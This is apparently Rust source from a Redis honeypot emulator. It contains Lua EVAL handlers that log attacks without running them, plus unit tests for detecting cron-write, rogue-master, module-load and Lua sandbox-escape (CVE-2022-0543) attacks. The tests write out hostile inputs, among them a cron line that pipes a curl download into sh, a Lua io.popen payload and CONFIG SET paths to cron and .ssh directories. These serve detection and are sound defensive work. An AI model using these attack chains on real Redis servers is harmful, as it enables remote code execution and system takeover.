    let (text, cut) = BytesText::capped(script, attacks::EVIDENCE_VALUE_CAP);
    let mut ev = Map::new();
    ev.insert("via".into(), json!(how));
    ev.insert("script".into(), json!(text.0));
    ev.insert("script_len".into(), json!(script.len()));
    ev.insert("truncated".into(), json!(cut));
    ev.insert("sha1".into(), json!(attacks::sha1_hex(script)));
    ev.insert("sandbox_escape".into(), json!(!escapes.is_empty()));
    ev.insert("escape_patterns".into(), json!(escapes));
    let mut tags = vec!["lua"];
    if !escapes.is_empty() {
        tags.push("cve-2022-0543");
    }
    attack(
        conn,
        "redis.lua_eval",
        if escapes.is_empty() {
            format!("Lua script via {how}")
        } else {
            format!("Lua sandbox escape attempt via {how}")
        },
        ev,
        &tags,
    );
}

fn eval(server: &Server, conn: &mut Conn, name: &str, args: &[Vec<u8>], out: &mut ReplyWriter) {
    let Some(numkeys) = parse_i64(&args[2]) else {
        out.error(NOT_INT);
        return;
    };
    if numkeys > (args.len() - 3) as i64 {
        out.error(b"ERR Number of keys can't be greater than number of args");
        return;
    }
    if numkeys < 0 {
        out.error(b"ERR Number of keys can't be negative");
        return;
    }
    if name == "evalsha" {
        let sha = lower(&args[1]);
        let known = lock(&server.scripts).contains(&sha);
        let mut ev = Map::new();
        ev.insert("via".into(), json!("evalsha"));
        ev.insert(
            "sha1".into(),
            json!(mirage_core::escape_bytes(&args[1][..args[1].len().min(64)])),
        );
        ev.insert("known".into(), json!(known));
        attack(
            conn,
            "redis.lua_eval",
            "EVALSHA of a cached script".into(),
            ev,
            &["lua"],
        );
        if known {
            out.null();
        } else {
            out.error(b"NOSCRIPT No matching script. Please use EVAL.");
        }
        return;
    }
    let sha = attacks::sha1_hex(&args[1]);
    {
        let mut scripts = lock(&server.scripts);
        if scripts.len() < 1024 {
            scripts.insert(sha);
        }
    }
    lua_attack(conn, "eval", &args[1]);
    // The script is never run; nil is what most probes and droppers get
    // back from a script whose last statement returns nothing.
    out.null();
}

fn info_text(server: &Server, conn: &Conn, args: &[Vec<u8>]) -> String {
    let sections = info::pick_sections(args);
    let (keys, bytes) = server.keyspaces.usage();
    let mut g = server.keyspaces.lock(conn.scope);
    let dbs = g.db_stats();
    let st = g.state();
    let (last_save, dirty, expired, hits, misses, master) = (
        st.last_save,
        st.dirty,
        st.expired,
        st.hits,
        st.misses,
        st.master.clone(),
    );
    drop(g);
    let scope_keys: usize = dbs.iter().map(|d| d.0).sum();
    let clients = lock(&server.clients)
        .values()
        .filter(|c| c.scope == conn.scope)
        .count();
    let now_us = now_ms() * 1000;
    let state = InfoState {
        version: server.version.text.clone(),
        seven: server.version.is_seven(),
        os: server.cfg.os.clone(),
        pid: server.pid,
        run_id: server.run_id.clone(),
        port: conn.local.port(),
        uptime: server.started.elapsed().as_secs(),
        now_usec: now_us,
        executable: "/usr/bin/redis-server".into(),
        config_file: String::new(),
        clients,
        data_bytes: if conn.scope.is_none() {
            bytes
        } else {
            (bytes as usize * scope_keys / keys.max(1)) as u64
        },
        keys: scope_keys,
        last_save: if last_save == 0 {
            server.started_unix
        } else {
            last_save
        },
        dirty,
        saves: server.saves.load(Ordering::Relaxed),
        connections: server.connections.load(Ordering::Relaxed),
        commands: server.commands.load(Ordering::Relaxed),
        lazyfreed: server.lazyfreed.load(Ordering::Relaxed),
        net_in: server.net_in.load(Ordering::Relaxed),
        net_out: server.net_out.load(Ordering::Relaxed),
        expired,
        hits,
        misses,
        errors: lock(&server.errors).clone(),
        master,
        replid: server.replid.clone(),
        dbs,
        cmdstats: lock(&server.cmdstats).clone(),
    };
    info::render(&state, &sections)
}

#[cfg(test)]
mod tests {

    #[test]
    fn dir_is_normalised_like_getcwd() {
        assert_eq!(
            normalize_dir("/var/lib/redis", "/var/spool/cron/"),
            "/var/spool/cron"
        );
        assert_eq!(
            normalize_dir("/var/lib/redis", "//root/./.ssh//"),
            "/root/.ssh"
        );
        assert_eq!(normalize_dir("/var/lib/redis", "../../tmp"), "/var/tmp");
        assert_eq!(normalize_dir("/", "../.."), "/");
    }
    use super::*;
    use crate::redis::{Conn, RedisEmulator};

    fn setup(version: &str) -> (RedisEmulator, Conn) {
        let cfg = mirage_config::RedisConfig {
            version: version.into(),
            ..Default::default()
        };
        let emu = RedisEmulator::new(cfg).unwrap();
        let conn = Conn {
            id: 5,
            db: 0,
            authenticated: true,
            scope: None,
            peer: "10.0.0.9:5000".parse().unwrap(),
            local: "10.0.0.2:6379".parse().unwrap(),
            resp3: false,
            tracker: Default::default(),
            events: Vec::new(),
            qbuf: 0,
        };
        (emu, conn)
    }

    fn run_line(emu: &RedisEmulator, conn: &mut Conn, args: &[&[u8]]) -> Vec<u8> {
        let args: Vec<Vec<u8>> = args.iter().map(|a| a.to_vec()).collect();
        let mut out = ReplyWriter::new(false);
        execute(&emu.server, conn, &args, &mut out);
        out.take()
    }

    fn techniques(conn: &Conn) -> Vec<String> {
        conn.events
            .iter()
            .filter_map(|(k, _)| match k {
                EventKind::Attack { technique, .. } => Some(technique.clone()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn cron_write_chain_is_an_attack_with_payload() {
        let (emu, mut c) = setup("5.0.7");
        let cron = b"\n\n*/1 * * * * curl -fsSL http://1.2.3.4/x.sh | sh\n\n";
        assert_eq!(
            run_line(
                &emu,
                &mut c,
                &[b"CONFIG", b"SET", b"dir", b"/var/spool/cron/"]
            ),
            b"+OK\r\n"
        );
        assert_eq!(
            run_line(&emu, &mut c, &[b"config", b"set", b"dbfilename", b"root"]),
            b"+OK\r\n"
        );
        assert_eq!(run_line(&emu, &mut c, &[b"set", b"x", cron]), b"+OK\r\n");
        assert!(techniques(&c).is_empty(), "nothing until the save");
        assert_eq!(run_line(&emu, &mut c, &[b"save"]), b"+OK\r\n");
        let (kind, tags) = c
            .events
            .iter()
            .find(|(k, _)| matches!(k, EventKind::Attack { .. }))
            .unwrap();
        let EventKind::Attack {
            technique,
            evidence,
            ..
        } = kind
        else {
            unreachable!()
        };
        assert_eq!(technique, "redis.config_write");
        assert_eq!(evidence["path"], "/var/spool/cron/root");
        assert_eq!(evidence["class"], "cron");
        assert!(tags.contains(&"cron".to_string()));
        let payload = c.events.iter().find_map(|(k, _)| match k {
            EventKind::Payload { data, .. } => Some(data.clone()),
            _ => None,
        });
        assert_eq!(payload.unwrap().len, cron.len() as u64);
    }

    #[test]
    fn seven_refuses_protected_configs_and_module_load() {
        let (emu, mut c) = setup("7.0.15");
        assert_eq!(
            run_line(&emu, &mut c, &[b"CONFIG", b"SET", b"dir", b"/root/.ssh"]),
            b"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n"
        );
        let r = run_line(&emu, &mut c, &[b"MODULE", b"LOAD", b"/tmp/exp.so"]);
        assert!(r.starts_with(b"-ERR MODULE command not allowed"));
        assert_eq!(techniques(&c), vec!["redis.module_load"]);
    }

    #[test]
    fn rogue_master_lua_and_flush_are_tagged() {
        let (emu, mut c) = setup("6.0.9");
        assert_eq!(
            run_line(&emu, &mut c, &[b"SLAVEOF", b"6.6.6.6", b"21000"]),
            b"+OK\r\n"
        );
        let r = run_line(
            &emu,
            &mut c,
            &[
                b"EVAL",
                b"local f = io.popen('id'); return f:read('*a')",
                b"0",
            ],
        );
        assert_eq!(r, b"$-1\r\n");
        run_line(&emu, &mut c, &[b"FLUSHALL"]);
        assert_eq!(
            techniques(&c),
            vec!["redis.rogue_master", "redis.lua_eval", "redis.flushall"]
        );
        let rogue = c.events.iter().find_map(|(k, _)| match k {
            EventKind::Attack {
                technique,
                evidence,
                ..
            } if technique == "redis.rogue_master" => Some(evidence.clone()),
            _ => None,
        });
        assert_eq!(rogue.unwrap()["master"], "6.6.6.6:21000");
        let lua = c
            .events
            .iter()
            .find(|(_, t)| t.contains(&"cve-2022-0543".to_string()));
        assert!(lua.is_some());
    }

    #[test]
    fn version_texts_differ() {
        let (emu, mut c) = setup("5.0.7");
        assert_eq!(
            run_line(&emu, &mut c, &[b"AUTH", b"x"]),
            b"-ERR Client sent AUTH, but no password is set\r\n"
        );
        assert_eq!(
            run_line(&emu, &mut c, &[b"FOO", b"a"]),
            b"-ERR unknown command `FOO`, with args beginning with: `a`, \r\n"
        );
        assert!(run_line(&emu, &mut c, &[b"HELLO"]).starts_with(b"-ERR unknown command `HELLO`"));
        let cfg = mirage_config::RedisConfig {
            password: "s3cret".into(),
            ..Default::default()
        };
        let emu = RedisEmulator::new(cfg).unwrap();
        c.authenticated = false;
        assert_eq!(
            run_line(&emu, &mut c, &[b"GET", b"k"]),
            b"-NOAUTH Authentication required.\r\n"
        );
        assert_eq!(
            run_line(&emu, &mut c, &[b"AUTH", b"nope"]),
            b"-ERR invalid password\r\n"
        );
        assert_eq!(run_line(&emu, &mut c, &[b"AUTH", b"s3cret"]), b"+OK\r\n");
        assert_eq!(run_line(&emu, &mut c, &[b"GET", b"k"]), b"$-1\r\n");
    }
}
